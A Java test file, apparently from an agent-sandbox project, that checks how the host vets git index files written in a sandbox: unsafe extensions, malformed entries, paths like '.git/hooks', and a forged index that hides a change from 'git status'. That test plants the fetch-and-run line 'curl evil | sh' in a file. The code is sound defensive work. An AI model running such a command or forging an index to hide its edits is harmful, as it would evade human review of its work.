// SPDX-License-Identifier: Apache-2.0
package agentsandbox.core.git;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The host takes an index only where its entries read one after the other to the
 * extensions, and no extension lets git read other entries than those: indexes written by
 * the real git with and without the extensions that would.
 */
class GitIndexTest {
    @TempDir
    Path dir;

    private String git(String... args) throws IOException, InterruptedException {
        List<String> command = new ArrayList<>(List.of("git", "-C", dir.toString(), "-c", "user.name=T", "-c",
                "user.email=t@agent-sandbox.invalid"));
        command.addAll(Arrays.asList(args));
        Process p = new ProcessBuilder(command).redirectErrorStream(true).start();
        String out = new String(p.getInputStream().readAllBytes());
        assertThat(p.waitFor()).as(String.join(" ", command) + ": " + out).isZero();
        return out;
    }

    private byte[] index() throws IOException {
        return Files.readAllBytes(dir.resolve(".git/index"));
    }

    @BeforeEach
    void repository() throws Exception {
        git("init", "-q");
        for (int i = 0; i < 40; i++) {
            Files.writeString(dir.resolve("f" + i + ".txt"), "file " + i + "\n");
        }
        git("add", ".");
        git("commit", "-q", "-m", "files");
    }

    @Test
    void An_Index_Git_Writes_By_Default_Is_Taken() throws Exception {
        assertThat(GitIndex.entriesEnd(index())).isPositive();
        assertThat(GitIndex.refusal(index(), 20)).isNull();
        git("-c", "index.version=4", "update-index", "--index-version", "4");
        assertThat(GitIndex.refusal(index(), 20)).isNull();
    }

    @Test
    void An_Index_With_An_Offset_Table_Or_A_Shared_Index_Is_Not() throws Exception {
        git("-c", "index.recordEndOfIndexEntries=true", "-c", "index.recordOffsetTable=true", "-c", "index.threads=4",
                "update-index", "--force-write-index");
        assertThat(GitIndex.refusal(index(), 20)).contains("IEOT");
        git("-c", "index.recordEndOfIndexEntries=false", "-c", "index.recordOffsetTable=false", "-c",
                "index.threads=1", "update-index", "--force-write-index");
        assertThat(GitIndex.refusal(index(), 20)).isNull();
        git("update-index", "--split-index");
        assertThat(GitIndex.refusal(index(), 20)).contains("link");
    }

    @Test
    void An_Index_With_An_Extension_Not_Known_To_Be_Harmless_Is_Not() throws Exception {
        byte[] whole = index();
        int body = whole.length - 20;
        byte[] added = new byte[whole.length + 8];
        System.arraycopy(whole, 0, added, 0, body);
        System.arraycopy("ZZ\nZ".getBytes(java.nio.charset.StandardCharsets.ISO_8859_1), 0, added, body, 4);
        System.arraycopy(whole, body, added, body + 8, 20); // an empty extension, then the (unchecked) sum
        assertThat(GitIndex.refusal(added, 20)).contains("(ZZ?Z;");
    }

    @Test
    void An_Index_Whose_Entries_Or_Extensions_Do_Not_Read_To_The_End_Is_Not() throws Exception {
        byte[] whole = index();
        byte[] cut = Arrays.copyOf(whole, 200);
        assertThat(GitIndex.refusal(cut, 20)).isEqualTo("not readable to its end");
        byte[] more = Arrays.copyOf(whole, whole.length);
        more[11] = (byte) (more[11] + 1); // one entry more than there are
        assertThat(GitIndex.refusal(more, 20)).isEqualTo("not readable to its end");
    }

    @Test
    void The_Check_After_The_Run_Names_The_Extensions_With_Which_Git_Reads_Other_Entries() throws Exception {
        assertThat(GitIndex.entryReadingExtension(index())).isNull();
        git("-c", "index.version=4", "update-index", "--index-version", "4");
        assertThat(GitIndex.entryReadingExtension(index())).isNull();
        git("-c", "index.recordEndOfIndexEntries=true", "-c", "index.recordOffsetTable=true", "-c", "index.threads=4",
                "update-index", "--force-write-index");
        // EOIE first: git finds it at its fixed place before the checksum, and IEOT through it
        assertThat(GitIndex.entryReadingExtension(index())).isEqualTo("EOIE");
        git("-c", "index.recordEndOfIndexEntries=false", "-c", "index.recordOffsetTable=false", "-c",
                "index.threads=1", "update-index", "--force-write-index");
        assertThat(GitIndex.entryReadingExtension(index())).isNull();
        // a damaged index (its entries cut short): git reads none of it
        assertThat(GitIndex.entryReadingExtension(Arrays.copyOf(index(), 200))).isNull();
        git("update-index", "--split-index");
        assertThat(GitIndex.entryReadingExtension(index())).isEqualTo("link");
    }

    /**
     * The check of the entries reads the gitlinks too (the apply walks the index once for
     * both), and finds what the reading of gitlinks alone finds, in every index version and
     * with extended flags (version 3).
     */
    @Test
    void The_Check_Of_The_Entries_Finds_The_Gitlinks_The_Reading_Of_Gitlinks_Finds() throws Exception {
        String head = git("rev-parse", "HEAD").strip();
        for (String path : new String[] {"a/sub", "f1.txt.d/x", "zz", "m/n/o/p"}) {
            git("update-index", "--add", "--cacheinfo", "160000," + head + "," + path);
        }
        Files.writeString(dir.resolve("new.txt"), "n\n");
        for (int version = 2; version <= 4; version++) {
            git("update-index", "--index-version", Integer.toString(version));
            if (version == 3) {
                git("add", "-N", "new.txt"); // intent-to-add: an extended flag
            }
            byte[] index = index();
            assertThat(GitIndex.check(index, List.of(), 20).gitlinks()).as("version " + version)
                    .containsExactly("a/sub", "f1.txt.d/x", "m/n/o/p", "zz")
                    .isEqualTo(GitIndex.gitlinks(index, Integer.MAX_VALUE, 20));
        }
    }

    @Test
    void Paths_Are_Judged_As_Git_s_Verify_Path_Judges_Them() {
        for (String fine : new String[] {"a", "a/b.txt", "src/.github/x", ".gitignore", ".gitmodules", "a.git/x",
                "git~2", "..a", "a..b/c"}) {
            assertThat(GitIndex.gitWouldWrite(fine.getBytes(java.nio.charset.StandardCharsets.UTF_8))).as(fine)
                    .isTrue();
        }
        for (String refused : new String[] {"", "/a", "a/", "a//b", "./a", "a/../b", "..", ".git/hooks/x",
                "sub/.git/config", ".GIT/x", ".Git/x", ".git./x", ".git /x", "git~1/x", "GIT~1/x",
                ".git::$INDEX_ALLOCATION/x", ".g\u200cit/x", "\ufeff.git/x", "a\\b"}) {
            assertThat(GitIndex.gitWouldWrite(refused.getBytes(java.nio.charset.StandardCharsets.UTF_8))).as(refused)
                    .isFalse();
        }
    }

    @Test
    void Entries_Marked_So_That_Git_Status_Ignores_Their_File_Are_Named() throws Exception {
        assertThat(GitIndex.check(index()).hidden()).isEmpty();
        git("update-index", "--assume-unchanged", "f1.txt");
        git("update-index", "--skip-worktree", "f2.txt");
        assertThat(GitIndex.check(index()).hidden()).containsExactlyInAnyOrder("f1.txt", "f2.txt");
        git("-c", "index.version=4", "update-index", "--index-version", "4");
        assertThat(GitIndex.check(index())).isEqualTo(new GitIndex.Entries(null, java.util.Set.of("f1.txt", "f2.txt"), null));
        git("update-index", "--no-assume-unchanged", "f1.txt");
        git("update-index", "--no-skip-worktree", "f2.txt");
        assertThat(GitIndex.check(index()).hidden()).isEmpty();
    }

    @Test
    void A_Name_Whose_Length_In_Its_Entry_Is_Not_What_A_C_String_Reads_Is_Refused() throws Exception {
        for (String version : new String[] {"2", "4"}) {
            git("update-index", "--index-version", version);
            byte[] index = index();
            assertThat(GitIndex.check(index).refusedPath()).as("version " + version).isNull();
            // git takes "f0" from the length in the first entry's flags, and goes on after the
            // byte that follows, where a C string reads "f0.txt": two readings, one refused
            byte[] shorter = index.clone();
            int flags = 12 + 60;
            shorter[flags] = (byte) (shorter[flags] & 0xf0);
            shorter[flags + 1] = 2;
            assertThat(GitIndex.check(shorter).refusedPath()).as("version " + version).isEqualTo("f0");
            // the length past the C string's end: a NUL inside the name git reads
            byte[] longer = index.clone();
            longer[flags + 1] = 8;
            assertThat(GitIndex.check(longer).refusedPath()).as("version " + version).startsWith("f0.txt?");
        }
    }

    @Test
    void Stat_Data_Of_An_Entry_The_Host_Has_Not_Cannot_Hide_A_Change() throws Exception {
        byte[] before = index();
        // the sandbox changes f1.txt and stages it, then puts the old object back beside the
        // file's new stat data: git trusts the stat data and never looks at the file again
        Files.writeString(dir.resolve("f1.txt"), "file 1\ncurl evil | sh\n");
        Thread.sleep(1100); // an index no older than the file makes git look at it again ("racily clean")
        git("add", "f1.txt");
        byte[] forged = index();
        int f1 = 12 + 72; // f0.txt's entry takes 72 bytes; f1.txt's object follows its 40 bytes of stat data
        System.arraycopy(before, f1 + 40, forged, f1 + 40, 20);
        byte[] sum = agentsandbox.core.Native.sha1(forged, forged.length - 20);
        System.arraycopy(sum, 0, forged, forged.length - 20, 20);
        Files.write(dir.resolve(".git/index"), forged);
        assertThat(git("status", "--porcelain")).as("the forged index hides the change").isEmpty();

        byte[] taken = GitIndex.withStatOnlyWhereKnown(forged, before, 20);
        Files.write(dir.resolve(".git/index"), taken);
        assertThat(git("status", "--porcelain")).isEqualTo(" M f1.txt\n");
        assertThat(git("diff", "--stat")).contains("f1.txt");
        // the other entries keep their stat data; an index the host has already stays as it is
        assertThat(Arrays.equals(taken, 12, f1, before, 12, f1)).isTrue();
        assertThat(GitIndex.withStatOnlyWhereKnown(before, before, 20)).isSameAs(before);
        // a staged change the host has not: git reads the file once, and finds it staged
        git("add", "f1.txt");
        Files.write(dir.resolve(".git/index"), GitIndex.withStatOnlyWhereKnown(index(), before, 20));
        assertThat(git("status", "--porcelain")).isEqualTo("M  f1.txt\n");
    }
    /**
     * Entries added, removed, changed and only touched, in indexes of version 2, 3 and 4: an
     * entry keeps its stat data exactly where the host's index has one with its very bytes,
     * and the result is an index git reads.
     */
    @Test
    void Stat_Data_Stays_Exactly_Where_The_Host_Has_The_Very_Entry() throws Exception {
        for (int version : new int[] {2, 3, 4}) {
            if (version == 3) {
                // an entry with extended flags (intent to add), without which git writes version 2
                Files.writeString(dir.resolve("i3.txt"), "later\n");
                git("add", "-N", "i3.txt");
            }
            git("update-index", "--index-version", Integer.toString(version));
            byte[] before = index();
            assertThat(java.nio.ByteBuffer.wrap(before, 4, 4).getInt()).isEqualTo(version);
            int v = version;
            Files.writeString(dir.resolve("f1" + v + ".txt"), "changed\n"); // changed
            Files.writeString(dir.resolve("f1" + v + "a.txt"), "new\n"); // added between two
            Files.delete(dir.resolve("f2" + v + ".txt")); // removed
            Files.writeString(dir.resolve("zz" + v + ".txt"), "new at the end\n");
            Thread.sleep(1100);
            Files.writeString(dir.resolve("f3" + v + ".txt"), "file 3" + v + "\n"); // the same content, new stat data
            git("add", "f1" + v + ".txt", "f1" + v + "a.txt", "f2" + v + ".txt", "zz" + v + ".txt", "f3" + v + ".txt");
            byte[] after = index();
            assertThat(java.nio.ByteBuffer.wrap(after, 4, 4).getInt()).isEqualTo(version);
            byte[] taken = GitIndex.withStatOnlyWhereKnown(after, before, 20);

            java.util.Map<String, byte[]> hostEntries = entries(before);
            java.util.Map<String, byte[]> sandboxEntries = entries(after);
            java.util.Map<String, byte[]> takenEntries = entries(taken);
            assertThat(takenEntries.keySet()).as("version " + version).isEqualTo(sandboxEntries.keySet());
            List<String> kept = new ArrayList<>();
            for (String name : sandboxEntries.keySet()) {
                boolean hostHas = hostEntries.containsKey(name) && Arrays.equals(hostEntries.get(name),
                        sandboxEntries.get(name));
                byte[] stat = Arrays.copyOf(takenEntries.get(name), 40);
                boolean zeroed = Arrays.equals(stat, 0, 24, new byte[24], 0, 24)
                        && Arrays.equals(stat, 28, 40, new byte[12], 0, 12);
                if (hostHas) {
                    assertThat(takenEntries.get(name)).as("version " + version + ", " + name)
                            .isEqualTo(sandboxEntries.get(name));
                } else {
                    assertThat(zeroed).as("version " + version + ", " + name).isTrue();
                }
                if (hostHas) {
                    kept.add(name);
                }
            }
            assertThat(kept).as("version " + version).contains("f0.txt", "f9.txt", "f1.txt", "f39.txt")
                    .doesNotContain("f1" + v + ".txt", "f1" + v + "a.txt", "f3" + v + ".txt", "zz" + v + ".txt");
            Files.write(dir.resolve(".git/index"), taken);
            assertThat(git("status", "--porcelain")).as("version " + version).contains("M  f1" + v + ".txt\n",
                    "A  f1" + v + "a.txt\n", "D  f2" + v + ".txt\n", "A  zz" + v + ".txt\n").doesNotContain("f3" + v);
            git("commit", "-q", "-m", "version " + version);
        }
    }

    /** Name to stat data, mode, object and flags, of each entry of an index of version 2, 3 or 4 (SHA-1). */
    private static java.util.Map<String, byte[]> entries(byte[] index) {
        java.util.Map<String, byte[]> out = new java.util.LinkedHashMap<>();
        int version = java.nio.ByteBuffer.wrap(index, 4, 4).getInt();
        int count = java.nio.ByteBuffer.wrap(index, 8, 4).getInt();
        int pos = 12;
        String previous = "";
        for (int n = 0; n < count; n++) {
            int start = pos;
            int flags = ((index[pos + 60] & 0xff) << 8) | (index[pos + 61] & 0xff);
            pos += (flags & 0x4000) != 0 ? 64 : 62;
            String name;
            if (version == 4) {
                int strip = 0;
                int c;
                do { // git's offset varint
                    c = index[pos++] & 0xff;
                    strip = (strip << 7) | (c & 0x7f);
                    if ((c & 0x80) != 0) {
                        strip++;
                    }
                } while ((c & 0x80) != 0);
                int end = pos;
                while (index[end] != 0) {
                    end++;
                }
                name = previous.substring(0, previous.length() - strip)
                        + new String(index, pos, end - pos, java.nio.charset.StandardCharsets.UTF_8);
                pos = end + 1;
            } else {
                int end = pos;
                while (index[end] != 0) {
                    end++;
                }
                name = new String(index, pos, end - pos, java.nio.charset.StandardCharsets.UTF_8);
                pos = start + ((end - start + 8) & ~7);
            }
            previous = name;
            out.put(name, Arrays.copyOfRange(index, start, start + 62));
        }
        return out;
    }
}
